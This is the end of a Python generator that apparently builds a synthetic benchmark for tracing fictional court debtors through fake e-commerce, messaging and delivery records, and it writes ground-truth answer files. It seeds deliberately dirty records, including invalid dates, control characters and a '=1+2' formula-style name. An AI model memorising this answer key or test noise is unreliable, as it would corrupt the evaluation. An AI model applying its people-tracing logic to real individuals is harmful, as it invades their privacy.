                 ("bad_ts", lambda p: json.dumps(dict(uid="db%d" % p["pid"], nickname=p["name"][-1] + "仔", phone=p["phones"][0], logins=[dict(ts="2026-02-30 25:00", ip="1.2.3.4", ip_region="火星")]), ensure_ascii=False)),
                 ("ctrl", lambda p: json.dumps(dict(uid="dc%d" % p["pid"], nickname=p["name"] + "\u0007\u001b", phone=p["phones"][0]), ensure_ascii=False)),
                 ("array", lambda p: "[1, 2, 3]")]
        for i, (k, f) in enumerate(kinds):
            p = self.person()
            res.append([(f(p), (k, p["pid"]))])
        return res

    def wb_rows(self, fn, line, carrier, k):
        r = self.r
        out = []
        kinds = ["null_no", "formula_rcv", "ctrl", "long_addr", "sign_before_pickup", "epoch_pickup", "bad_sign_type"]
        for j in range(2):
            kd = kinds[(k * 2 + j) % len(kinds)]
            p = self.person()
            t = dt.datetime(2026, 1 + k % 12, 5 + j, 10, 0, 0)
            v = dict(waybill_no="DW%s%06d" % (carrier[:2].upper(), self.n), sender_name="某店", sender_phone="4000000000",
                     sender_address="山东省济南市天桥区物流园", receiver_name=p["name"], receiver_phone=p["phones"][0],
                     receiver_address=self.o.g.geo.render(p["home"]), pickup_time=t, sign_time=t + dt.timedelta(days=1), sign_type="本人签收")
            if kd == "null_no":
                v["waybill_no"] = None
            elif kd == "formula_rcv":
                v["receiver_name"] = "=1+2"
            elif kd == "ctrl":
                v["receiver_address"] = v["receiver_address"] + "\x00\x1f"
            elif kd == "long_addr":
                v["receiver_address"] = "旁边" * 8000
            elif kd == "sign_before_pickup":
                v["sign_time"] = t - dt.timedelta(days=3)
            elif kd == "epoch_pickup":
                v["pickup_time"] = dt.datetime(1970, 1, 1, 8, 0, 0)
            elif kd == "bad_sign_type":
                v["sign_type"] = "放门口"
            out.append((v, rec(file=fn, line=line + j, source="logistics", platform=carrier, dirty=True, dirt=kd, receiver=p["pid"])))
        return out


# ------------------------------------------------------------------------------------------------ truth
def write_truth(W, cases, R, out):
    import polars as pl
    by = W.by
    tdir = os.path.join(out, "truth")
    os.makedirs(tdir, exist_ok=True)
    newest = {}
    for c in cases:
        newest.setdefault(c["pid"], []).append(c)
    clean = [x for x in R if not x["dirty"] and not x["ambiguous"] and x["source"] != "debtors"]
    named, home_del, work_keys = set(), set(), {}
    for x in clean:
        for f in ("holder", "recipient", "receiver", "sender"):
            if x[f] is not None:
                named.add(x[f])
    for x in clean:
        if not x["door"] or not x["delivered"]:
            continue
        for f in ("holder", "recipient", "receiver"):
            pid = x[f]
            if pid is None or by[pid]["role"] != "debtor" or by[pid]["kind"] != "person":
                continue
            if f == "holder" and x["recipient"] is not None and x["recipient"] != pid:
                continue
            p = by[pid]
            if x["dest_canonical"] == canon(p["home"]):
                home_del.add(pid)
            if p.get("work") is not None and x["dest_canonical"] == canon(p["work"]) and x["record_key"]:
                work_keys.setdefault(pid, set()).add(x["record_key"])
    rows = []
    for p in W.debtors:
        person = p["kind"] == "person"
        cs = newest[p["pid"]]
        rows.append(dict(id_number=p["id_number"].upper(), name=p["name"], kind="person" if person else "organisation",
                         open=any(c["status"] != "执行完毕" for c in cs), on_platforms=p["pid"] in named,
                         absent=bool(person and p["pid"] not in named), has_home_delivery=p["pid"] in home_del,
                         home_address=canon(p["home"]) if person else None,
                         work_address=canon(p["work"]) if person and p.get("work") is not None else None,
                         n_work=len(work_keys.get(p["pid"], ())) if person else 0,
                         current_phones=list(p["phones"]) if person else []))
    pl.DataFrame(rows, schema=dict(id_number=pl.String, name=pl.String, kind=pl.String, open=pl.Boolean, on_platforms=pl.Boolean,
                                   absent=pl.Boolean, has_home_delivery=pl.Boolean, home_address=pl.String, work_address=pl.String,
                                   n_work=pl.Int64, current_phones=pl.List(pl.String))).write_parquet(os.path.join(tdir, "debtors.parquet"))
    pl.DataFrame(cases).write_parquet(os.path.join(tdir, "cases.parquet"))
    vio, seen = [], set()
    for x in clean:
        if x["source"] != "ecommerce" or x["category"] not in RESTRICTED:
            continue
        for f in ("holder", "recipient"):
            pid = x[f]
            if pid is None or by[pid]["role"] != "debtor":
                continue
            for c in newest.get(pid, []):
                if c["status"] != "执行完毕" and c["restrict"] and x["ordered_at"].date() > c["filing"]:
                    key = (by[pid]["id_number"].upper(), c["case_no"], x["platform"], x["order_id"])
                    if key in seen:
                        continue
                    seen.add(key)
                    vio.append(dict(id_number=key[0], case_no=c["case_no"], platform=x["platform"], order_id=x["order_id"],
                                    ordered_at=x["ordered_at"], category=x["category"], amount=x["amount"], by_holder=(f == "holder")))
    pl.DataFrame(vio, schema=dict(id_number=pl.String, case_no=pl.String, platform=pl.String, order_id=pl.String, ordered_at=pl.Datetime("us"),
                                  category=pl.String, amount=pl.Float64, by_holder=pl.Boolean)).write_parquet(os.path.join(tdir, "violations.parquet"))
    ppl = []
    for p in W.people:
        person = p["kind"] == "person"
        ppl.append(dict(pid=p["pid"], role=p["role"], kind=p["kind"], household=p.get("household"), name=p["name"],
                        id_number=p["id_number"], gender=p.get("gender"), birth=p.get("birth"),
                        home=canon(p.get("home")), home_kind=(p.get("home") or {}).get("kind"),
                        old_home=canon(p.get("old_home")), move_date=p.get("move_date"),
                        hukou_home=(p.get("hukou_home") or {}).get("text"),
                        work=canon(p.get("work")), work_kind=(p.get("work") or {}).get("kind"), old_work=canon(p.get("old_work")),
                        job_change=p.get("job_change"), landline=p.get("landline"), phones=list(p["phones"]), old_phone=p.get("old_phone"),
                        phone_change=p.get("phone_change"), phone_from=p.get("phone_from"), spouse=p.get("spouse"),
                        parents=list(p.get("parents") or []), children=list(p.get("children") or []),
                        namesake_of=p.get("namesake_of"), roster_phones=list(p.get("roster_phones") or []),
                        accounts=sorted(p.get("accounts") or {}), present=p.get("present"), flags=list(p["flags"]),
                        home_district=G.D[p["home"]["dk"]]["name"] if person and p.get("home") and p["home"].get("dk") else None))
    pl.DataFrame(ppl, infer_schema_length=None).write_parquet(os.path.join(tdir, "people.parquet"))
    rs = dict(file=pl.String, line=pl.Int64, source=pl.String, platform=pl.String, record_key=pl.String, holder=pl.Int64, recipient=pl.Int64,
              receiver=pl.Int64, sender=pl.Int64, dest_kind=pl.String, dest_canonical=pl.String, delivered=pl.Boolean, door=pl.Boolean,
              dirty=pl.Boolean, dirt=pl.String, ambiguous=pl.Boolean, dup_of=pl.String, category=pl.String, amount=pl.Float64,
              ordered_at=pl.Datetime("us"), order_id=pl.String, name_form=pl.String, sender_kind=pl.String, sender_canonical=pl.String,
              raw_address=pl.String)
    pl.DataFrame([{k: x.get(k) for k in rs} for x in R], schema=rs).write_parquet(os.path.join(tdir, "records.parquet"))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--out", required=True)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--debtors", type=int, default=2000)
    a = ap.parse_args()
    for sub in ("inbox", "truth"):
        if os.path.exists(os.path.join(a.out, sub)):
            shutil.rmtree(os.path.join(a.out, sub))
    W = World(a.seed, a.debtors)
    geo = Geo(W.rng)
    build_world(W, geo)
    cases = build_cases(W)
    g = Gen(W, geo)
    r = W.rng
    for p in W.people:
        if p["kind"] != "person" or p["role"] == "dirt":
            continue
        if p["role"] == "debtor" and not p["present"]:
            continue
        if p["home"] is None:
            continue
        g.person_orders(p)
        g.social(p)
        if p["parents"] and r.random() < 0.6:
            g.parent_parcels(p)
        if p.get("work") and p["work"]["kind"] in ("stall", "shop", "factory") and r.random() < 0.5:
            g.work_shipments(p)
    for d in W.debtors:
        if d["kind"] == "person" and d["present"] and "uses_spouse_account" in d["flags"]:
            g.spouse_account_orders(d)
    for d in W.debtors:
        if d["kind"] == "person" and d["present"] and r.random() < 0.12:
            d["flags"].append("violator")
            g.restricted(d, cases)
    # non-debtors buy restricted items too
    for p in W.people:
        if p["kind"] == "person" and p["role"] in ("stranger", "namesake", "spouse") and p["present"] and r.random() < 0.03:
            a_ = g.account(p, "feiji")
            day = rand_date(r, START, ASOF - dt.timedelta(days=1))
            g.order(a_, p, None, "virtual", rtime(r, day, "home"), category=r.choice(RESTRICTED + G.NEAR_MISS), virtual=True, text="电子客票")
    out = Out(a.out, W, g)
    dirt = Dirt(out)
    out.ecommerce(dirt)
    out.social(dirt)
    out.logistics(dirt)
    out.roster(cases)
    write_truth(W, cases, out.R, a.out)
    with open(os.path.join(a.out, "truth", "files.json"), "w") as f:
        json.dump(out.files, f, ensure_ascii=False, indent=1, sort_keys=True)
    print("people", len(W.people), "debtors", len(W.debtors), "orders", len(g.orders), "waybills", len(g.waybills), "records", len(out.R))


if __name__ == "__main__":
    main()
